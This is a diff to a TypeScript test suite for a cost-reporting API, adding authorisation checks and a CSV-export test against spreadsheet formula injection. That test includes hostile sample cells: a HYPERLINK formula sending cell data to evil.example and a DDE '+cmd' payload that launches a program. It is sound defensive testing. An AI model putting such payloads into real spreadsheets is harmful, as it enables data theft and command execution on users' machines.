@@ -1,5 +1,6 @@
 import { gzipSync } from 'node:zlib';
 import { createTestDatabases } from '@ai-platform/test-utils';
+import { mockCredentials } from '@backstage/backend-test-utils';
 import request from 'supertest';
 import { users } from '../__fixtures__/entities';
 import { focusCsv, testRow } from '../__testUtils__/focusCsv';
@@ -302,10 +303,12 @@ describe.each(databases.eachSupportedId())('cost router on %p', databaseId => {
     expect(res.body.errors).toEqual([
       { line: 2, column: 'BilledCost', reason: 'not a decimal number: "ten"' },
     ]);
+    expect(res.body.status).toBe('refused');
+    // A refused upload leaves the database as it was: the run is in the answer only.
     const run = await request(server)
       .get(`/api/cost/ingest/runs/${res.body.id}`)
       .set(...as(users.fin));
-    expect(run.body.status).toBe('refused');
+    expect(run.status).toBe(404);
     const costs = await request(server)
       .get(`/api/cost/costs?entityRef=group:default/acme&${range}`)
       .set(...as(users.fin));
@@ -316,6 +319,86 @@ describe.each(databases.eachSupportedId())('cost router on %p', databaseId => {
       .send('x');
     expect(badName.status).toBe(400);
     expect(badName.body.error.message).toMatch(/fileName: must be a file name/);
+  });
+
+  it.each([
+    ['post', '/budgets'],
+    ['put', '/budgets/00000000-0000-4000-8000-000000000000'],
+    ['delete', '/budgets/00000000-0000-4000-8000-000000000000'],
+    ['post', '/ingest/upload?fileName=x.csv'],
+    ['post', '/ingest/scan'],
+  ] as const)(
+    'refuses a service principal on %s %s with 403 before reading the body',
+    async (method, path) => {
+      const res = await request(server)
+        [method](`/api/cost${path}`)
+        .set('Authorization', mockCredentials.service.header())
+        .set('Content-Type', 'application/json')
+        // Not even valid JSON: the refusal comes before parsing.
+        .send('{');
+      expect(res.status).toBe(403);
+    },
+  );
+
+  it('lets a service principal read', async () => {
+    const res = await request(server)
+      .get(`/api/cost/costs?entityRef=group:default/products&${range}`)
+      .set('Authorization', mockCredentials.service.header());
+    expect(res.status).toBe(200);
+    expect(res.body.total).toBe(200);
+  });
+
+  it('neutralises formulas in the CSV export and keeps negative amounts as numbers', async () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      '@SUM(1)',
+      '-1+1',
+    ];
+    const july = (overrides: Record<string, string>) =>
+      testRow({
+        BillingAccountId: 'acct-july',
+        BillingPeriodStart: '2024-07-01T00:00:00Z',
+        BillingPeriodEnd: '2024-08-01T00:00:00Z',
+        ChargePeriodStart: '2024-07-10T00:00:00Z',
+        ChargePeriodEnd: '2024-07-11T00:00:00Z',
+        Tags: JSON.stringify({
+          'ai-platform.io/team': 'search-relevance',
+          'ai-platform.io/cost-center': "+cmd|' /C calc'!A0",
+        }),
+        ...overrides,
+      });
+    const upload = await request(server)
+      .post('/api/cost/ingest/upload?fileName=july.csv')
+      .set(...as(users.fin))
+      .set('Content-Type', 'text/csv')
+      .send(
+        focusCsv([
+          ...hostile.map(name => july({ ServiceName: name, BilledCost: '3' })),
+          july({ ServiceName: 'Credits', BilledCost: '-12.5' }),
+        ]),
+      );
+    expect(upload.status).toBe(200);
+    const res = await request(server)
+      .get(
+        '/api/cost/costs/export.csv?entityRef=group:default/search-relevance&from=2024-07-01&to=2024-07-31&granularity=month&splitBy=service',
+      )
+      .set(...as(users.sam));
+    expect(res.status).toBe(200);
+    const lines = res.text.trim().split('\r\n');
+    expect(lines).toEqual(
+      expect.arrayContaining([
+        `2024-07-01,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",3,USD`,
+        "2024-07-01,'+cmd|' /C calc'!A0,'+cmd|' /C calc'!A0,3,USD",
+        "2024-07-01,'@SUM(1),'@SUM(1),3,USD",
+        "2024-07-01,'-1+1,'-1+1,3,USD",
+        '2024-07-01,Credits,Credits,-12.5,USD',
+      ]),
+    );
+    // No cell starts with a formula character, except the real negative number.
+    for (const line of lines.slice(1)) {
+      expect(line).not.toMatch(/(^|,)[=+@\t\r]/);
+    }
   });
 
   it("answers the get-costs action with the caller's permissions", async () => {
